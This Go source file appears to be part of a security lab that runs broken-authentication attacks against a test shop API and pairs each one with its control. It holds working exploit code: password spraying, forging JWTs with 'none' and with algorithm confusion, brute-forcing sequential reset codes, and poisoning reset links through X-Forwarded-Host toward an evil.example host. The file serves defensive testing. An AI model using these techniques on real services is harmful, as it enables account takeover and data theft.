package lab

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"time"
)

// API2: broken authentication.
var identityFlaws = []Flaw{
	{ID: "AUTH-1", Title: "Try common passwords without end", Class: "API2:2023", CWE: "CWE-307",
		Control: "limit.spend: rate of login by account, failures",
		Steps: func(a *Attack) {
			email := a.customer(Victim).Email
			for _, guess := range commonPasswords() {
				r := a.exploit(nobody, "POST", "/v1/auth/login", fmt.Sprintf(`{"email":"%s","password":"%s"}`, email, guess))
				if r.code != "" || r.err != nil {
					return
				}
				a.leak(r.has("accessToken"), "password of %s after %d attempts: %s", Victim, a.requests, guess)
			}
		}},
	{ID: "AUTH-2", Title: "A token that says it needs no signature", Class: "API2:2023", CWE: "CWE-347",
		Control: "identity: algorithm belongs to the key",
		Steps: func(a *Attack) {
			token := a.named("$UNSIGNED_TOKEN", forged(a.lab.claims(Admin), "none", nil))
			r := a.exploit(nobody, "GET", "/v1/customers?limit=5", "", "Authorization", "Bearer "+token)
			a.leak(r.has("cus_"), "the list of customers, as an admin whom nobody signed in")
		}},
	{ID: "AUTH-3", Title: "A token that expired two days ago", Class: "API2:2023", CWE: "CWE-613",
		Control: "identity: exp",
		Steps: func(a *Attack) {
			token := a.named("$EXPIRED_TOKEN", a.lab.Token(Victim, ExpiresIn(-48*time.Hour)))
			r := a.exploit(nobody, "GET", "/v1/me", "", "Authorization", "Bearer "+token)
			a.leak(r.has(a.customer(Victim).Email), "profile of %s with a token found in an old log", Victim)
		}},
	{ID: "AUTH-4", Title: "Reset codes are counted up, and may be tried without end", Class: "API2:2023", CWE: "CWE-640",
		Control: "limit.spend: rate of confirmPasswordReset by account",
		Steps:   guessResetCode},
	{ID: "AUTH-5", Title: "Tokens are taken from the query, where logs and histories keep them", Class: "API2:2023", CWE: "CWE-598",
		Control: "identity: only the declared place of a credential",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/v1/me?access_token="+a.token(Attacker), "")
			a.leak(r.has(a.customer(Attacker).Email), "the profile, for a link out of somebody's history")
		}},
	{ID: "AUTH-6", Title: "Any key that begins like one of the sandbox opens the live shop", Class: "API2:2023", CWE: "CWE-1391",
		Control: "identity: API keys of 256 bits, by hash",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/v1/partner/stock", "", "X-API-Key", "hgk_test_1")
			a.leak(r.ok() && r.has("quantity"), "the partner API, with a guessed key")
		}},
	{ID: "AUTH-7", Title: "A token signed with the public key as if it were a password", Class: "API2:2023", CWE: "CWE-327",
		Control: "identity: algorithm belongs to the key",
		Steps: func(a *Attack) {
			token := a.named("$CONFUSED_TOKEN", forged(a.lab.claims(Admin), "HS256", a.lab.JWKS()))
			r := a.exploit(nobody, "GET", "/v1/customers?limit=5", "", "Authorization", "Bearer "+token)
			a.leak(r.has("cus_"), "the list of customers, as an admin whom nobody signed in")
		}},
	{ID: "AUTH-8", Title: "The link in the reset mail leads to a host of the attacker's choice", Class: "API2:2023", CWE: "CWE-640",
		Control: "forward: X-Forwarded-* are rebuilt",
		Steps: func(a *Attack) {
			a.exploit(nobody, "POST", "/v1/auth/password-reset", fmt.Sprintf(`{"email":"%s"}`, a.customer(Victim).Email), "X-Forwarded-Host", "harborgoods.evil.example")
			var sent bool
			a.state(func(s *store) {
				sent = len(s.outbox) > 0 && strings.Contains(s.outbox[0].Text, "evil.example")
			})
			a.leak(sent, "the mail to %s links to harborgoods.evil.example", Victim)
		}},
}

// commonPasswords are the ones that everybody tries, the victim's among them.
func commonPasswords() []string {
	var list []string
	for _, word := range []string{"Password", "Welcome", "Qwerty", "Summer", "Winter", "Dragon", "Football", "Sunshine"} {
		for _, year := range []string{"1!", "123!", "2023!", "2024!"} {
			list = append(list, word+year)
		}
	}
	return list
}

// guessResetCode asks for a code for the attacker's own account, lets a few others and the victim ask, and counts up.
func guessResetCode(a *Attack) {
	ask := func(account string) {
		a.send(nobody, "POST", "/v1/auth/password-reset", fmt.Sprintf(`{"email":"%s"}`, a.customer(account).Email))
	}
	ask(Attacker)
	var own string
	a.state(func(s *store) { own = s.codes[s.customers[Attacker].Email] }) // it is in the attacker's own mailbox
	for _, other := range []string{"cus_0011", "cus_0012", "cus_0013", Victim} {
		ask(other)
	}
	n, err := strconv.Atoi(own)
	if err != nil {
		return // no mail came
	}
	email := a.customer(Victim).Email
	for guess := n + 1; guess < n+60; guess++ {
		r := a.exploit(nobody, "POST", "/v1/auth/password-reset/confirm", fmt.Sprintf(`{"email":"%s","code":"%06d","newPassword":"owned-by-mallory"}`, email, guess))
		if r.code != "" || r.err != nil {
			return
		}
		if r.ok() {
			a.leak(a.customer(Victim).password == "owned-by-mallory", "a new password for %s after %d guesses", Victim, guess-n)
			return
		}
	}
}

// forged makes a token that its owner's identity provider never made.
func forged(c claims, alg string, secret []byte) string {
	payload, err := json.Marshal(c)
	if err != nil {
		panic(err) // a struct of strings and numbers always marshals
	}
	encode := base64.RawURLEncoding.EncodeToString
	text := encode([]byte(`{"alg":"`+alg+`","typ":"at+jwt","kid":"`+keyID+`"}`)) + "." + encode(payload)
	if secret == nil {
		return text + "."
	}
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(text))
	return text + "." + encode(mac.Sum(nil))
}
